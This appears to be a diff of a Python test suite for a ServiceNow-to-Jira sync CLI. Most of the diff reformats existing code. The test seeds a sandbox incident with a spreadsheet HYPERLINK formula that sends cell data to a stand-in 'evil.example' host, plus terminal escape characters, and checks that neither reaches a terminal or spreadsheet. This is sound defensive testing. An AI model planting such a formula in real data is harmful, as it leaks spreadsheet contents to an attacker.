@@ -21,23 +21,52 @@ FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"\x1b[31mopen")'
 
 
 def cli(cfg: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([sys.executable, "-m", "itsm_bridge.cli", "--config", str(cfg), *args],
-                          env=env, cwd=ROOT, capture_output=True, text=True, timeout=120)  # fmt: skip
+    return subprocess.run(
+        [sys.executable, "-m", "itsm_bridge.cli", "--config", str(cfg), *args],
+        env=env,
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
 
 
 def controls(text: str) -> list[str]:
     """Control and bidi characters a terminal would act on (newline and tab are layout)."""
-    return sorted({repr(c) for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F
-                   or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"})  # fmt: skip
+    return sorted(
+        {
+            repr(c)
+            for c in text
+            if (ord(c) < 0x20 and c not in "\n\t")
+            or 0x7F <= ord(c) <= 0x9F
+            or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+        }
+    )
 
 
 def test_vendor_control_sequences_reach_no_terminal_and_formulas_no_spreadsheet(tmp_path: Path) -> None:
     with new_sandbox() as sb:
         ci = sb.servicenow.add_reference("cmdb_ci", "VPN")
-        linked = sb.servicenow.insert_incident({"short_description": "VPN slow", "category": "network",
-                                                "cmdb_ci": ci, "impact": "1", "urgency": "1", "state": "2"})  # fmt: skip
-        sb.servicenow.insert_incident({"short_description": ESC_TITLE, "category": FORMULA, "cmdb_ci": ci,
-                                       "impact": "3", "urgency": "3", "state": "1"})  # fmt: skip
+        linked = sb.servicenow.insert_incident(
+            {
+                "short_description": "VPN slow",
+                "category": "network",
+                "cmdb_ci": ci,
+                "impact": "1",
+                "urgency": "1",
+                "state": "2",
+            }
+        )
+        sb.servicenow.insert_incident(
+            {
+                "short_description": ESC_TITLE,
+                "category": FORMULA,
+                "cmdb_ci": ci,
+                "impact": "3",
+                "urgency": "3",
+                "state": "1",
+            }
+        )
         cfg, env = start(tmp_path, sb)
         env = {**env, **{k: v for k, v in os.environ.items() if k == "PATH"}}
         first = cli(cfg, env, "sync")
@@ -56,9 +85,14 @@ def test_vendor_control_sequences_reach_no_terminal_and_formulas_no_spreadsheet(
             return dispatch(req)
 
         jira.dispatch = refusing
-        runs = {"plan": plan, "sync": cli(cfg, env, "-v", "sync"), "status": cli(cfg, env, "status"),
-                "quarantine list": cli(cfg, env, "quarantine", "list"), "audit": cli(cfg, env, "audit"),
-                "journal show": cli(cfg, env, "journal", "show")}  # fmt: skip
+        runs = {
+            "plan": plan,
+            "sync": cli(cfg, env, "-v", "sync"),
+            "status": cli(cfg, env, "status"),
+            "quarantine list": cli(cfg, env, "quarantine", "list"),
+            "audit": cli(cfg, env, "audit"),
+            "journal show": cli(cfg, env, "journal", "show"),
+        }
         assert "summary refused" in runs["sync"].stdout, runs["sync"].stdout + runs["sync"].stderr
         assert "\\x1b" in runs["audit"].stdout
         shown = {name: controls(r.stdout + r.stderr) for name, r in runs.items()}
